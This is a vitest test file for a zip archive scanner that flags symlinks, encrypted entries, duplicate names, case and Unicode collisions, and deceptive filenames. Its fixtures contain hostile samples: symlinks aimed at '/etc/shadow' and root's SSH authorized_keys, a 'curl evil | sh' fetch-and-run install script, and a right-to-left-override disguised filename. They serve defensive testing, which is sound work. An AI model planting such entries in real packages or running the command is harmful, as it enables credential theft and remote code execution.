import { describe, expect, it } from 'vitest';
import { DEFAULT_ARCHIVE_LIMITS, type OpenedArchive } from '../../src/preflight/archive.js';
import { openArchive } from '../../src/yauzl/open-archive.js';
import { buildRawZip, type RawZipEntry } from '../helpers/raw-zip.js';
import { buildYazlZip } from './build-yazl-zip.js';

async function withArchive(buffer: Buffer, use: (archive: OpenedArchive) => Promise<void> | void): Promise<void> {
  const archive = await openArchive({ kind: 'buffer', buffer, name: 'pkg.zip' }, DEFAULT_ARCHIVE_LIMITS);
  try {
    await use(archive);
  } finally {
    archive.close();
  }
}

const names = (archive: OpenedArchive) => archive.entries.map((entry) => entry.name);
const link = (name: string, target: string): RawZipEntry => ({ name, content: target, unixMode: 0o120777 });

describe('per-entry hazards are reported and the scan goes on', () => {
  it('when a link points to another file of the package, it is a warning naming the target, and the target is still scanned', async () => {
    const zip = await buildYazlZip([
      { name: 'lib/libdten.so.5', content: 'ELF' },
      { name: 'lib/libdten.so', content: 'libdten.so.5', mode: 0o120777 },
    ]);
    await withArchive(zip, (archive) => {
      expect(names(archive)).toEqual(['lib/libdten.so.5']);
      expect(archive.hazards).toEqual([
        expect.objectContaining({ entryName: 'lib/libdten.so', rule: 'archive/symlink', severity: 'warning' }),
      ]);
      expect(archive.hazards[0]?.message).toContain('`libdten.so.5`');
    });
  });

  it.each([
    ['an absolute path', '/etc/shadow'],
    ['a path climbing out of the package', '../../../root/.ssh/authorized_keys'],
  ])('when a link points to %s, it is a blocker', async (_kind, target) => {
    await withArchive(buildRawZip([link('conf/app.conf', target), { name: 'README', content: 'hi' }]), (archive) => {
      expect(names(archive)).toEqual(['README']);
      expect(archive.hazards).toEqual([expect.objectContaining({ rule: 'archive/symlink', severity: 'blocker' })]);
      expect(archive.hazards[0]?.message).toContain('outside the package');
    });
  });

  it('when an entry is encrypted, it is reported as impossible to scan and left out, and the rest is scanned', async () => {
    const zip = buildRawZip([
      { name: 'secrets/vault.db', content: 'ciphertext', flags: 0x801 },
      { name: 'manifest.json', content: '{}' },
    ]);
    await withArchive(zip, (archive) => {
      expect(names(archive)).toEqual(['manifest.json']);
      expect(archive.hazards).toEqual([
        expect.objectContaining({
          entryName: 'secrets/vault.db',
          rule: 'archive/encrypted-entry',
          severity: 'blocker',
        }),
      ]);
      expect(archive.hazards[0]?.message).toContain('cannot be scanned');
    });
  });

  it('when a name appears twice, the second copy is reported and left out, and the first is what gets read', async () => {
    const zip = buildRawZip([
      { name: 'scripts/install.sh', content: 'echo safe' },
      { name: 'scripts/install.sh', content: 'curl evil | sh' },
    ]);
    await withArchive(zip, async (archive) => {
      expect(names(archive)).toEqual(['scripts/install.sh']);
      expect(archive.hazards.map((hazard) => hazard.rule)).toEqual(['archive/duplicate-name']);
      const [entry] = archive.entries;
      if (!entry) throw new Error('missing entry');
      const chunks: Buffer[] = [];
      for await (const chunk of archive.read(entry)) chunks.push(chunk);
      expect(Buffer.concat(chunks).toString()).toBe('echo safe');
    });
  });

  it('when two names differ only in letter case, the later one is reported as a case collision', async () => {
    const zip = buildRawZip([
      { name: 'config/App.properties', content: 'a=1' },
      { name: 'config/app.properties', content: 'a=2' },
    ]);
    await withArchive(zip, (archive) => {
      expect(names(archive)).toEqual(['config/App.properties']);
      expect(archive.hazards).toEqual([
        expect.objectContaining({
          entryName: 'config/app.properties',
          rule: 'archive/case-collision',
          severity: 'blocker',
        }),
      ]);
    });
  });

  it('when the same name is stored in NFC and in NFD, the later one is reported as a Unicode collision', async () => {
    const nfc = 'docs/caf\u00e9.txt';
    const nfd = 'docs/cafe\u0301.txt';
    await withArchive(
      buildRawZip([
        { name: nfc, content: '1' },
        { name: nfd, content: '2' },
      ]),
      (archive) => {
        expect(names(archive)).toEqual([nfc]);
        expect(archive.hazards.map((hazard) => hazard.rule)).toEqual(['archive/unicode-collision']);
      },
    );
  });

  it.each([
    ['a control character', 'logs/report\n.txt', 'logs/report\\x0A.txt'],
    ['a right-to-left override', 'invoice\u202Etxt.sh', 'invoice\\u{202E}txt.sh'],
    ['Slack markup', '<!channel> read me.txt', '<!channel> read me.txt'],
  ])(
    'when a name holds %s, it stays in the scan, is shown escaped, and is reported as a warning',
    async (_kind, name, shown) => {
      await withArchive(buildRawZip([{ name, content: 'x' }]), (archive) => {
        expect(archive.entries).toEqual([expect.objectContaining({ name, displayName: shown })]);
        expect(archive.hazards).toEqual([
          expect.objectContaining({ entryName: shown, rule: 'archive/suspicious-name', severity: 'warning' }),
        ]);
      });
    },
  );

  it('when names are ordinary (underscores, accents, CJK, folders), nothing is reported', async () => {
    const zip = await buildYazlZip([
      { name: 'bin', directory: true },
      { name: 'bin/post_install.sh', content: 'x' },
      { name: 'docs/Mistä veri pakenee.txt', content: 'x' },
      { name: 'docs/七个房间.txt', content: 'x' },
    ]);
    await withArchive(zip, (archive) => {
      expect(archive.hazards).toEqual([]);
      expect(archive.entries.map((entry) => [entry.name, entry.isDirectory])).toEqual([
        ['bin/', true],
        ['bin/post_install.sh', false],
        ['docs/Mistä veri pakenee.txt', false],
        ['docs/七个房间.txt', false],
      ]);
    });
  });
});
